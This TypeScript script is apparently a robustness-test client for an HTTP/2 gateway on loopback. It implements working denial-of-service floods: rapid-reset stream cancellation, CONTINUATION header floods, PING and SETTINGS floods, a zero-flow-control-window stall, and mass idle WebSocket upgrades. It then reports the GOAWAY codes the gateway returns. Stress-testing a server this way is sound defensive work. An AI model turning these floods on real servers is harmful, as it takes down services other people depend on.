// One client of scripts/prove-http2.ts that means no good, in a process of its own: does one thing to a gateway on loopback for a bounded
// time, then prints what it did as JSON. `node --conditions=source scripts/http2-attack.ts <order as JSON>`
import { connect as connectNet } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { connectFrames, FLAG, FRAME, frame, type FrameClient, headerBlock, request, word32 } from '../test/support/frames.ts'
import { connectHttp2, type Http2Target } from '../test/support/http2.ts'

export interface AttackOrder extends Http2Target {
  readonly kind: 'rapid-reset' | 'continuation' | 'ping' | 'settings' | 'untaken' | 'load' | 'websockets'
  readonly connections: number
  readonly milliseconds: number
}

export interface AttackResult {
  readonly connections: number
  /** Streams begun; for `load`, answers; for `websockets`, those that are open. */
  readonly streams: number
  readonly bytes: number
  /** Codes of GOAWAY, and how often. */
  readonly goaways: Readonly<Record<string, number>>
  readonly failed: number
}

interface Tally {
  connections: number
  streams: number
  bytes: number
  readonly goaways: Record<string, number>
  failed: number
}

const BATCH = 64
const order = JSON.parse(process.argv[2] ?? '{}') as AttackOrder
const until = performance.now() + order.milliseconds
const isOver = () => performance.now() >= until
const tally: Tally = { connections: 0, streams: 0, bytes: 0, goaways: {}, failed: 0 }

const list = (path: string): string[] => [':method', 'GET', ':scheme', 'https', ':authority', order.host, ':path', path]
const range = (count: number): readonly number[] => Array.from({ length: count }, (_, n) => n)

/** Writes, and waits while the socket is full. */
const send = async (client: FrameClient, bytes: Buffer): Promise<void> => {
  tally.bytes += bytes.length
  if (client.socket.write(bytes)) return void (await new Promise((resolve) => setImmediate(resolve)))
  await new Promise<void>((resolve) => {
    const go = () => {
      client.socket.off('drain', go)
      client.socket.off('close', go)
      resolve()
    }
    client.socket.on('drain', go)
    client.socket.on('close', go)
  })
}

type Round = (client: FrameClient, round: number) => Promise<void>

const rounds: Readonly<Record<string, Round>> = {
  'rapid-reset': (client, round) => {
    tally.streams += BATCH
    const streams = range(BATCH).map((n) => 2 * (round * BATCH + n) + 1)
    const pairs = streams.flatMap((stream) => [
      request(stream, list('/rapid')),
      frame([FRAME.reset, FLAG.none, stream], word32(8)),
    ])
    return send(client, Buffer.concat(pairs))
  },
  continuation: (client, round) => {
    const begin = round === 0 ? [frame([FRAME.headers, FLAG.endStream, 1], headerBlock(list('/flood')))] : []
    const more = frame([FRAME.continuation, FLAG.none, 1], headerBlock(range(64).flatMap((n) => [`x-${n}`, 'y'.repeat(200)])))
    return send(client, Buffer.concat([...begin, more, more, more, more]))
  },
  ping: (client) => send(client, Buffer.concat(range(1_000).map(() => frame([FRAME.ping, FLAG.none, 0], Buffer.alloc(8))))),
  settings: (client) => send(client, Buffer.concat(range(1_000).map(() => frame([FRAME.settings, FLAG.none, 0])))),
}

/** Floods a connection until it is closed, then the next. */
const flood = async (round: Round): Promise<void> => {
  while (!isOver()) {
    const client = await connectFrames(order).catch(() => null)
    if (client === null) {
      tally.failed++
      await pause(20)
      continue
    }
    tally.connections++
    for (let n = 0; !isOver() && !client.closed() && client.goaway() === null; n++) await round(client, n)
    const code = String(client.goaway() ?? 'none')
    tally.goaways[code] = (tally.goaways[code] ?? 0) + 1
    client.socket.destroy()
  }
}

const INITIAL_WINDOW = Buffer.concat([Buffer.from([0, 4]), word32(0)])

/** Asks for a hundred large answers and takes none. */
const takeNothing = async (): Promise<void> => {
  const client = await connectFrames(order, INITIAL_WINDOW)
  tally.connections++
  for (const n of range(100)) await send(client, request(2 * n + 1, list('/down/1048576')))
  tally.streams += 100
  while (!isOver() && !client.closed()) await pause(50)
  client.socket.destroy()
}

/** A client that is merely busy: its next request is sent when an answer is there, sixteen at a time. */
const load = async (): Promise<void> => {
  const client = await connectHttp2(order)
  tally.connections++
  const ask = async () => {
    while (!isOver()) {
      const { status, whole } = await client.ask({ ':path': '/load' })
      if (status === 200 && whole) tally.streams++
      else tally.failed++
    }
  }
  await Promise.all(range(16).map(ask))
  client.close()
}

const HANDSHAKE = `GET /socket HTTP/1.1\r\nHost: ${order.host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`

/** Opens an idle WebSocket over HTTP/1.1; `port` is that of a plain listener. */
const openIdle = (): Promise<void> =>
  new Promise((resolve) => {
    const socket = connectNet(order.port, '127.0.0.1')
    const fail = () => {
      tally.failed++
      resolve()
    }
    socket.once('error', fail)
    socket.once('data', (head: Buffer) => {
      socket.off('error', fail)
      socket.on('error', () => {})
      if (head.toString('latin1').startsWith('HTTP/1.1 101')) tally.streams++
      resolve()
    })
    socket.write(HANDSHAKE)
  })

const openMany = async (): Promise<void> => {
  for (let left = order.connections; left > 0; left -= BATCH) await Promise.all(range(Math.min(BATCH, left)).map(openIdle))
  process.send?.('open')
  console.error('open')
  while (!isOver()) await pause(100)
}

const act = async (): Promise<void> => {
  if (order.kind === 'websockets') return openMany()
  const round = rounds[order.kind]
  const one = order.kind === 'load' ? load : round === undefined ? takeNothing : () => flood(round)
  await Promise.all(range(order.connections).map(one))
}

await act()
console.log(JSON.stringify(tally satisfies AttackResult))
process.exit(0)
